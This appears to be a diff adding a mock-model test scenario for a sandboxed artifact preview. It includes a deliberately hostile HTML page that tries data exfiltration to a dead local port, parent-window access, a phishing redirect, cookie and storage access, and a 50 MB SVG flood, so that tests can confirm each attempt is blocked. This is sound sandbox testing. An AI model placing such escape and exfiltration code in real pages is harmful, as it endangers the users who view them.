@@ -1,0 +1,83 @@
+import { lastUserText, reply } from '../../reply-builders';
+import type { Scenario } from '../../scenario-types';
+import { standardModels } from '../models/standard-models';
+
+const fence = (language: string, code: string): string => `\`\`\`${language}\n${code}\n\`\`\``;
+
+/** A page the model writes, then revises (same title): two versions of one artifact. */
+export const CLOCK_V1 = '<!doctype html>\n<title>Clock</title>\n<h1 id="face">12:00</h1>\n<p>A plain clock.</p>';
+export const CLOCK_V2 =
+  '<!doctype html>\n<title>Clock</title>\n<h1 id="face" style="color: red">12:00</h1>\n<p>A red clock.</p>\n<script>document.getElementById("face").dataset.ran = "yes";</script>';
+
+/**
+ * An artifact that tries, from inside the preview frame, everything the frame must not do, and
+ * writes what happened to each attempt into its own page (`#results`, one `name: outcome` line
+ * each; "ALLOWED" means it got through). The e2e spec reads the lines and checks the window too.
+ */
+export const HOSTILE_ARTIFACT = `<!doctype html>
+<title>Hostile</title>
+<pre id="results"></pre>
+<button id="draw">Draw a 50 MB SVG</button>
+<form id="post" method="post" action="http://127.0.0.1:9/steal"><input name="x" value="secret"></form>
+<script>
+const results = {};
+const attempt = async (name, action) => {
+  try { const outcome = await action(); results[name] = outcome === undefined ? 'ALLOWED' : outcome; }
+  catch (error) { results[name] = 'blocked: ' + (error && error.name ? error.name : String(error)); }
+};
+(async () => {
+  await attempt('fetch', async () => { await fetch('http://127.0.0.1:9/exfil?d=1'); });
+  await attempt('fetch-app', async () => { await fetch('/'); });
+  await attempt('xhr', () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.onload = () => resolve(undefined); x.onerror = () => reject(new TypeError('network')); x.open('GET', 'http://127.0.0.1:9/x'); x.send(); }));
+  await attempt('websocket', () => new Promise((resolve, reject) => { const w = new WebSocket('ws://127.0.0.1:9/'); w.onopen = () => resolve(undefined); w.onerror = () => reject(new TypeError('ws')); }));
+  await attempt('image', () => new Promise((resolve, reject) => { const i = new Image(); i.onload = () => resolve(undefined); i.onerror = () => reject(new TypeError('image')); i.src = 'http://127.0.0.1:9/pixel.png'; }));
+  await attempt('parent-document', () => { void window.parent.document.title; });
+  await attempt('top-document', () => { void window.top.document.title; });
+  await attempt('parent-taco', () => { if (window.top.taco === undefined) throw new Error('no window.taco'); });
+  await attempt('parent-write', () => { window.top.__pwned = true; });
+  await attempt('top-location', () => { window.top.location.href = 'http://127.0.0.1:9/phish'; });
+  await attempt('cookie', () => { document.cookie = 'taco=stolen'; void document.cookie; });
+  await attempt('localStorage', () => { localStorage.setItem('taco', 'x'); });
+  await attempt('sessionStorage', () => { sessionStorage.setItem('taco', 'x'); });
+  await attempt('indexedDB', () => new Promise((resolve, reject) => { const r = indexedDB.open('taco'); r.onsuccess = () => resolve(undefined); r.onerror = () => reject(r.error); }));
+  await attempt('window-open', () => { if (window.open('http://127.0.0.1:9/popup') === null) throw new Error('no window'); });
+  await attempt('form-post', () => { document.getElementById('post').submit(); });
+  await attempt('download', () => { const a = document.createElement('a'); a.href = 'data:text/plain,x'; a.download = 'x.txt'; document.body.append(a); a.click(); return 'clicked (no download may follow)'; });
+  document.getElementById('results').textContent = Object.entries(results).map(([name, outcome]) => name + ': ' + outcome).join('\\n');
+  document.body.dataset.done = 'yes';
+  // Then, on a click, a 50 MB SVG drawn inside the frame: its thread may be busy for long (and the
+  // frame stopped); the window's must not be.
+  document.getElementById('draw').addEventListener('click', () => {
+    const rect = '<rect x="1" y="1" width="1" height="1" fill="red"/>';
+    const big = '<svg xmlns="http://www.w3.org/2000/svg">' + rect.repeat(Math.ceil((50 * 1024 * 1024) / rect.length)) + '</svg>';
+    const holder = document.createElement('div');
+    holder.innerHTML = big;
+    document.body.append(holder);
+    document.body.dataset.svg = String(Math.round(big.length / 1048576));
+  });
+})();
+</script>`;
+
+/** An artifact that never yields its thread: the preview must stop it, not the window. */
+export const LOOP_ARTIFACT = '<!doctype html>\n<title>Loop</title>\n<p id="before">about to loop</p>\n<script>for (;;) {}</script>';
+
+/**
+ * Answers with artifacts: "clock" writes a page, "red" revises it, "hostile" writes the hostile
+ * artifact, "loop" one that never ends; anything else gets an SVG.
+ */
+export const artifacts: Scenario = {
+  name: 'artifacts',
+  description: 'Answers with previewable artifacts: a page and its revision, a hostile page, an infinite loop, an SVG.',
+  models: standardModels(),
+  replies: [],
+  whenExhausted: (request) => {
+    const text = lastUserText(request);
+    if (/hostile/i.test(text)) return reply.text(`Here it is:\n\n${fence('html', HOSTILE_ARTIFACT)}`);
+    if (/loop/i.test(text)) return reply.text(`Here it is:\n\n${fence('html', LOOP_ARTIFACT)}`);
+    if (/red/i.test(text)) return reply.text(`Now red:\n\n${fence('html', CLOCK_V2)}`);
+    if (/clock/i.test(text)) return reply.text(`A clock:\n\n${fence('html', CLOCK_V1)}`);
+    return reply.text(
+      `A logo:\n\n${fence('svg', '<svg xmlns="http://www.w3.org/2000/svg" width="80" height="80"><title>Logo</title><circle cx="40" cy="40" r="30" fill="orange"/></svg>')}`,
+    );
+  },
+};
